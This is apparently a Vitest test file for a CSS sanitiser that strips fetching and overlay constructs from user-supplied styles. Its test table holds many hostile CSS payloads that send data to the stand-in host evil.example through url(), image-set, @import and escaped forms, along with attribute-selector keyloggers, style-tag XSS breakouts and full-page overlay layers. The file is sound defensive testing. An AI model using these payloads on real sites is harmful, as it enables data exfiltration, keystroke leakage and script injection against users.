import { readFileSync } from 'node:fs';
import { TokenType, tokenize } from '@csstools/css-tokenizer';
import { describe, expect, it } from 'vitest';
import { checkCustomCss } from './custom-css';

const EVIL = 'https://evil.example/k';

/**
 * Every route CSS offers to make the browser fetch something, written the ways an
 * attacker would: plain, escaped, split by comments, through custom properties and var() fallbacks.
 */
const exfiltration: Record<string, string> = {
  'url()': `a{background:url(${EVIL})}`,
  'quoted url()': `a{background:url("${EVIL}")}`,
  'relative url()': 'a{background:url(/img/x.png)}',
  'protocol-relative url()': 'a{background:url(//evil.example/k)}',
  'backslash url()': 'a{background:url(/\\\\evil.example/k)}',
  'URL() upper case': `a{background:URL(${EVIL})}`,
  'escaped u': `a{background:\\75 rl(${EVIL})}`,
  'escaped letter': `a{background:u\\rl(${EVIL})}`,
  'comment inside the name': `a{background:u/**/rl(${EVIL})}`,
  'escape split by a comment': `a{background:u\\/**/72l(${EVIL})}`,
  'escaped scheme inside url()': 'a{background:url(ht\\74ps://evil.example/k)}',
  'image-set()': `a{background-image:image-set("${EVIL}" 1x)}`,
  '-webkit-image-set()': `a{background-image:-webkit-image-set("${EVIL}" 1x)}`,
  'custom property into image-set()': `:root{--k:"${EVIL}"} input{background-image:image-set(var(--k) 1x)}`,
  'custom property into -webkit-image-set()': `:root{--k:"${EVIL}"} a{background:-webkit-image-set(var(--k) 1x)}`,
  'custom property holding url()': `:root{--k:url(${EVIL})} a{background:var(--k)}`,
  'custom property holding image-set()': `:root{--k:image-set("${EVIL}" 1x)} a{background:var(--k)}`,
  'var() fallback with url()': `a{background:var(--none, url(${EVIL}))}`,
  'var() fallback with image-set()': `a{background:var(--none, image-set("${EVIL}" 1x))}`,
  'image()': `a{background:image("${EVIL}")}`,
  'cross-fade()': `a{background:cross-fade(url(${EVIL}), url(${EVIL}), 50%)}`,
  'element()': 'a{background:element(#x)}',
  'src()': `a{background:src("${EVIL}")}`,
  'attr() as a URL': 'a{background-image:attr(data-x type(<url>))}',
  '@import url': `@import url(${EVIL});`,
  '@import string': `@import "${EVIL}";`,
  '@import escaped': `@\\69mport "${EVIL}";`,
  '@import split by a comment': `@im/**/port "${EVIL}";`,
  '@font-face': `@font-face{font-family:x;src:url(${EVIL})} a{font-family:x}`,
  '@font-face local + string': `@font-face{font-family:x;src:local(x), "${EVIL}"}`,
  '@namespace': `@namespace x "${EVIL}";`,
  '@property initial-value': `@property --k{syntax:"<url>";inherits:false;initial-value:url(${EVIL})}`,
  '@counter-style symbols': `@counter-style x{system:cyclic;symbols:url(${EVIL})}`,
  'cursor': `a{cursor:url(${EVIL}), auto}`,
  'mask': `a{mask:url(${EVIL})}`,
  '-webkit-mask-image': `a{-webkit-mask-image:url(${EVIL})}`,
  'border-image': `a{border-image:url(${EVIL}) 30 round}`,
  'border-image-source': `a{border-image-source:url(${EVIL})}`,
  'list-style-image': `li{list-style-image:url(${EVIL})}`,
  'list-style shorthand': `li{list-style:square url(${EVIL})}`,
  'content url()': `a::after{content:url(${EVIL})}`,
  'filter url()': `a{filter:url(${EVIL}#f)}`,
  'clip-path url()': `a{clip-path:url(${EVIL}#c)}`,
  'shape-outside': `a{shape-outside:url(${EVIL})}`,
  'behavior': 'a{behavior:url(x.htc)}',
  '-moz-binding': 'a{-moz-binding:url(x.xml#y)}',
  'expression()': 'a{width:expression(alert(1))}',
  'keylogger on value': `input[value$="a"]{background:url(${EVIL}?a)}`,
  'keylogger without url': 'input[value^="a"]{color:red}',
  'keylogger on placeholder-less escape': 'input[v\\61lue$="a"]{color:red}',
  'keylogger in :has()': 'form:has(input[value$="a"]){color:red}',
  'style breakout': `a{}</style><img src=x onerror=alert(1)><style>`,
  'style breakout in a string': 'a::after{content:"</style><script>alert(1)</script>"}',
  'html comment tokens': '<!-- a{color:red} -->',
  'bad url': 'a{background:url(a"b) red}',
  'unclosed url': `a{background:url(${EVIL}`,
  'media url': `@media (min-width:1px){a{background:url(${EVIL})}}`,
  'supports with image-set': `@supports (background:image-set("x" 1x)){a{background:image-set("${EVIL}" 1x)}}`,
  'keyframes with url': `@keyframes k{from{background:url(${EVIL})}} a{animation:k 1s}`,
  'nested rule with url': `a{color:red; &:hover{background:url(${EVIL})}}`,
  'escaped var()': `:root{--k:"${EVIL}"} a{background:image-set(v\\61r(--k) 1x)}`,
};

const ALLOWED_AT_RULES = new Set(['media', 'supports', 'container', 'layer', 'keyframes', '-webkit-keyframes']);
const FETCHING = /^(?:-webkit-)?(?:image-set|image|src|cross-fade|element|url|attr|expression)$/i;

/** What must hold for any output: read back by the same tokenizer the browser follows. */
function expectNothingFetches(css: string) {
  for (const token of tokenize({ css })) {
    expect(token[0], `token ${token[1]}`).not.toBe(TokenType.URL);
    expect(token[0]).not.toBe(TokenType.BadURL);
    expect(token[0]).not.toBe(TokenType.CDO);
    if (token[0] === TokenType.Function) expect(token[4].value).not.toMatch(FETCHING);
    if (token[0] === TokenType.AtKeyword) expect(ALLOWED_AT_RULES.has(token[4].value.toLowerCase()), `@${token[4].value}`).toBe(true);
    if (token[0] === TokenType.Ident) expect(token[4].value.toLowerCase()).not.toBe('value');
    // A string is text (nothing above can fetch it); anything else naming the host is a finding.
    if (token[0] !== TokenType.String) expect(token[1]).not.toContain('evil.example');
  }
  expect(css).not.toContain('<');
}

describe('checkCustomCss: nothing can make the browser fetch', () => {
  it.each(Object.entries(exfiltration))('%s', (_name, css) => {
    const { css: out } = checkCustomCss(css);
    expectNothingFetches(out);
    expect(checkCustomCss(out).css, 'checking the output again changes nothing').toBe(out);
  });

  it('holds for every payload of the XSS corpus read as CSS', () => {
    const corpus = JSON.parse(readFileSync('/work/shared/corpora/xss-payloads.json', 'utf8')) as { cases: { payload: string }[] };
    for (const { payload } of corpus.cases) {
      const { css } = checkCustomCss(payload);
      expectNothingFetches(css);
    }
  });
});

describe('checkCustomCss: what may pass', () => {
  it('keeps ordinary styling: colours, maths, gradients, media, supports, keyframes, custom properties', () => {
    const css = [
      ':root { --brand: #e2001a; --gap: calc(4px * 2) }',
      '.header > .logo { width: 120px; color: var(--brand, rgb(0 0 0 / 50%)) !important }',
      'a:hover, a:focus-visible { background: linear-gradient(90deg, #fff 0%, hsl(10 50% 50%) 100%) }',
      '@media (max-width: 600px) { .menu a:not(.active) { padding: clamp(4px, 0.1rem, 8px) } }',
      '@supports (display: grid) { .grid { border-radius: max(4px, 1vw) } }',
      '@keyframes glow { from { background-color: #fff } to { background-color: hsl(50 100% 90%) } }',
      'button[aria-expanded="true"], [type=submit] { font-family: "Open Sans", sans-serif }',
      '.icon::before { content: "\\201C" }',
    ].join('\n');
    const { css: out, warnings } = checkCustomCss(css);
    expect(warnings).toEqual([]);
    for (const piece of ['--brand: #e2001a', 'var(--brand, rgb(0 0 0 / 50%)) !important', 'linear-gradient(90deg', '@media (max-width: 600px)',
      ':not(.active)', 'clamp(4px, 0.1rem, 8px)', '@supports (display: grid)', 'max(4px, 1vw)', '@keyframes glow',
      'hsl(50 100% 90%)', 'button[aria-expanded="true"], [type=submit]', '"Open Sans", sans-serif', 'content: "\u201C"']) {
      expect(out).toContain(piece);
    }
  });

  it('drops only the failing declaration or rule, with a warning naming it', () => {
    const { css, warnings } = checkCustomCss(
      `.a { color: red; background: url(${EVIL}); margin: 0 }\ninput[value$="x"] { color: blue }\n@import "x.css";\n.b { color: green }`,
    );
    expect(css).toBe('.a { color: red; margin: 0 }\n.b { color: green }');
    expect(warnings).toEqual([
      'declaration dropped (line 1, column 18): url() is not allowed',
      'rule dropped (line 2, column 1): attribute selector [value] is not allowed',
      'rule dropped (line 3, column 1): @import is not allowed',
    ]);
  });

  it('serialises strings itself: no "<" reaches the style sheet', () => {
    expect(checkCustomCss('.a::after { content: "</style>" }').css).toBe('.a::after { content: "\\3c /style>" }');
  });

  it('judges escapes on their decoded value', () => {
    expect(checkCustomCss('.a { color: r\\65 d }').css).toBe('.a { color: r\\65 d }');
    expect(checkCustomCss('.a { background: \\75 rl(x) }').warnings).toHaveLength(1);
  });

  it('lays no layer over the portal: no position at all, no offsets, no z-index, pseudo-elements too', () => {
    const layers = [
      'form::after { content: "Call +420 123"; position: fixed; inset: 0; z-index: 2147483647; background: white }',
      'body::before { position: FIXED !important; top: 0; left: 0; width: 100vw; height: 100vh }',
      '.x { position: absolute; top: 0 }',
      'header ~ * { position: sticky; top: 0 }',
      ':root { --p: fixed } .x { position: var(--p) }',
      '.x { pos\\ition: fixed }',
      '.x { z-index: 99999 }',
      '@media screen { .x { position: -webkit-sticky } }',
      '.x { position: relative; top: 2px }',
    ];
    for (const css of layers) {
      const out = checkCustomCss(css).css;
      expect(out, css).not.toMatch(/position|z-index|top|inset|pos\\/i);
      // Read back as the browser would: no position, no offset, no z-index.
      const idents = tokenize({ css: out }).filter((t) => t[0] === TokenType.Ident).map((t) => String(t[4].value).toLowerCase());
      for (const name of ['z-index', 'position', 'top', 'left', 'inset']) expect(idents, css).not.toContain(name);
    }
    // Not static either: it would pull the portal's own dialogs and header out of their layer.
    expect(checkCustomCss('dialog { position: static }').warnings).toEqual([expect.stringMatching(/position: static: not allowed/)]);
  });

  it('keeps the rules before a { that is never closed and reports where it is', () => {
    const result = checkCustomCss('.a { color: red }\n@media print {\n  .b { color: blue }\n.c { color: green }');
    expect(result.css).toBe('.a { color: red }');
    expect(result.incomplete).toEqual({ line: 2, column: 14, message: 'this { is never closed: the rules after it are dropped, the rules before it apply' });
    expect(checkCustomCss('.a { color: red }\n.b { color: rgb(1, 2 }\n.c { color: blue }').incomplete).toMatchObject({ line: 2, column: 4 });
    const comment = checkCustomCss('.a { color: red }\n/* .b { color: blue }');
    expect(comment.css).toBe('.a { color: red }');
    expect(comment.incomplete).toMatchObject({ line: 2, column: 1, message: expect.stringMatching(/^this comment is never closed/) });
    expect(checkCustomCss('.a { color: red }\n.b { color: blue }').incomplete).toBeUndefined();
  });

  it('gives an empty sheet for no input', () => {
    expect(checkCustomCss('')).toEqual({ css: '', warnings: [] });
    expect(checkCustomCss(null)).toEqual({ css: '', warnings: [] });
    expect(checkCustomCss(undefined)).toEqual({ css: '', warnings: [] });
  });
});
